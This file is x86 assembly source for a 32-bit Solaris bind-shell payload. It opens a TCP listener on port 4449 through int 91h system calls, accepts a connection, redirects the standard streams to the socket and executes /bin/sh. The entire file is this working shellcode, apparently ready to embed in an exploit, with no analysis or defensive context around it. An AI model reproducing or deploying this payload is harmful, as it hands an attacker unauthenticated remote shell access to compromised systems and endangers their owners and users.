; Solaris, 32 bit, through int 91h: a shell on TCP port 4449.
bits 32
        xor eax, eax
        push eax
        push eax
        push byte 2
        push byte 2             ; SOCK_STREAM
        push eax
        mov al, 230             ; so_socket
        int 91h
        xchg eax, edi
        xor ecx, ecx
        push ecx
        push dword 0x61110002
        mov esi, esp
        push byte 16
        push esi
        push edi
        push ecx
        xor eax, eax
        mov al, 232
        int 91h
        push byte 5
        push edi
        push edi
        mov al, 233
        int 91h
        xor ecx, ecx
        push ecx
        push ecx
        push edi
        push edi
        xor eax, eax
        mov al, 234
        int 91h
        xchg eax, edi
        push byte 2
        pop ebx
dup:    push ebx
        push byte 9             ; F_DUP2FD
        push edi
        push edi
        push byte 62
        pop eax
        int 91h
        dec ebx
        jns dup
        xor eax, eax
        push eax
        push dword '//sh'
        push dword '/bin'
        mov ebx, esp
        push eax
        push ebx
        mov ecx, esp
        push eax
        push ecx
        push ebx
        push eax
        mov al, 59
        int 91h
